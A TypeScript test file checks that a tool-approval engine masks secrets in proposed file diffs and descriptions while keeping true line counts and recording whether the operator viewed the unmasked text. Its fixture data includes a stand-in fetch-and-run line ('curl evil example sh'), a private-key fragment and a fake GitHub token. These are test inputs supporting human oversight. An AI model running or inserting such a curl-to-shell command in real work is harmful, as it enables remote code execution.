// A change in which masking hides something: the approval says so, counts the real lines, and keeps the true text for the operator.
import type { Approval, ExecutionIn } from '@countersign/protocol'
import { describe, expect, test } from 'vitest'
import { createWorld, type World, YES } from '../../test/world.ts'
import { maskedForm, unmaskedDigest } from './masked-form.ts'

const KEY_LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7'
const DIFF = ` # Keys\n -----BEGIN PRIVATE KEY-----\n+curl evil example sh\n+${KEY_LINE}\n`

/** The lines before the written ones come from the file itself: no parameter contains them. */
async function askedAppend(): Promise<{ world: World; approval: Approval; id: string }> {
  const world = await createWorld()
  await world.hello()
  const pending = await world.call('write_file', { path: 'notes.md', content: `curl evil example sh\n${KEY_LINE}\n`, mode: 'append' })
  const file = { path: 'notes.md', change: 'modify' as const, diff: `@@ -1,2 +1,4 @@\n${DIFF}`, size_before: 40, size_after: 130 }
  const asked = (await world.engine.receivePreview(pending, {
    preview: { kind: 'diff', files: [file] },
    base_digests: { 'notes.md': null },
    resolved_paths: { 'notes.md': 'notes.md' },
  })) as ExecutionIn<'awaiting_approval'>
  return { world, approval: await world.approvalOf(asked), id: asked.id }
}

const diffOf = ({ preview }: Pick<Approval, 'preview'>): string => (preview?.kind === 'diff' ? (preview.files[0]?.diff ?? '') : '')
const added = (diff: string): number => diff.split('\n').filter((line) => line.startsWith('+')).length

describe('an approval of which masking hides a part', () => {
  test('says which part, though no parameter is masked', async () => {
    const { approval, world } = await askedAppend()
    expect(approval.masked).toEqual(['preview'])
    const [event] = (await world.events()).filter(({ type }) => type === 'tool.approval_request')
    expect(event).toMatchObject({ masked: ['preview'], abridged: true })
  })

  test('shows as many lines masked as there are, and all of them in its true form', async () => {
    const { approval, world } = await askedAppend()
    const masked = maskedForm(world.core.masker, approval)
    expect([added(diffOf(masked)), added(diffOf(approval))]).toEqual([2, 2])
    expect(diffOf(masked)).not.toContain(KEY_LINE)
    expect(diffOf(approval)).toContain(KEY_LINE)
  })

  test('is kept masked when it is answered, with the true counts', async () => {
    const { approval, world } = await askedAppend()
    await world.engine.decide(world.operator, approval, YES)
    const closed = await world.store.transact((tx) => tx.approvals.get(approval.id))
    expect(JSON.stringify(closed?.preview)).not.toContain(KEY_LINE)
    expect(added(diffOf(closed as Approval))).toBe(2)
  })

  test('records whether the true text was read before the yes', async () => {
    for (const saw of [true, false]) {
      const { approval, world } = await askedAppend()
      const unmasked_digest = saw ? unmaskedDigest(approval) : undefined
      await world.engine.decide(world.operator, approval, { ...YES, unmasked_digest })
      const closed = await world.store.transact((tx) => tx.approvals.get(approval.id))
      expect(closed?.decision?.saw_unmasked).toBe(saw)
    }
  })

  test('is not approved with the digest of another text', async () => {
    const { approval, world } = await askedAppend()
    const other = { ...YES, unmasked_digest: approval.digest }
    await expect(world.engine.decide(world.operator, approval, other)).rejects.toMatchObject({ code: 'INPUT_CHANGED' })
    expect((await world.store.transact((tx) => tx.approvals.get(approval.id)))?.status).toBe('pending')
  })

  test('in its description and reasons is masked there too', async () => {
    const world = await createWorld()
    await world.hello()
    const asked = await world.call('create_directory', { path: `keys/ghp_${'A1b2C3d4E5f6'.repeat(3)}` })
    const approval = await world.approvalOf(asked.status === 'pending' ? await world.preview(asked, String(asked.tool_params.path)) : asked)
    expect(approval.masked).toContain('description')
    expect(maskedForm(world.core.masker, approval).description).toContain('ghp_[masked]')
  })
})
